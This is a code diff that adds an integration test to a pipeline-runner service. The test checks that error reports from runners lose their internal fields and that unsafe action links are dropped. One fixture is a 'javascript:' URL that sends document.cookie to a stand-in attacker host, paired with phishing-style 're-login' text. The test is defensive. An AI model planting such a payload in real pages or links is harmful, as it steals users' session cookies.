@@ -841,6 +841,53 @@ describe.each(databases.eachSupportedId())(
       ]);
     });
 
+    it('keeps of a reported error what a runner may say, and only safe links', async () => {
+      const owner = await api.signup();
+      const stack = await createStack(api, owner);
+      const runner = await createRunner(api, owner);
+      const runs = [
+        await trigger(api, owner, stack.changePipelineId),
+        await trigger(api, owner, stack.changePipelineId),
+      ];
+      const reported = {
+        code: 'InfraDelivery:Auth:INSUFFICIENT_ROLE',
+        message: 'Your session expired, click to re-login',
+        isInternal: true,
+        requestId: 'forged',
+      };
+      const unsafe = {
+        label: 'Log in again',
+        url: 'javascript:fetch("//evil.example/"+document.cookie)',
+      };
+      const safe = { label: 'Runbook', url: 'https://wiki.example/runbook' };
+
+      for (const [i, action] of [unsafe, safe].entries()) {
+        const claimed = await claim(api, runner.key);
+        expect(claimed.pipelineRun.id).toBe(runs[i].id);
+        await complete(api, runner.key, claimed, {
+          status: 'FAILED',
+          error: { ...reported, action },
+        });
+      }
+
+      const [first, second] = await Promise.all(
+        runs.map(run => getRun(api, owner, run.id)),
+      );
+      // Shown to everyone who reads the run: no superadmin's internals, no forged request.
+      expect(first.error).toEqual({
+        code: reported.code,
+        message: reported.message,
+      });
+      expect((await stepsOf(owner.token, runs[0].id))[0].error).toEqual(
+        first.error,
+      );
+      expect(second.error).toEqual({
+        code: reported.code,
+        message: reported.message,
+        action: safe,
+      });
+    });
+
     it('tells the runner of a cancelled run at its next heartbeat, and refuses its report (409)', async () => {
       const owner = await api.signup();
       const stack = await createStack(api, owner);
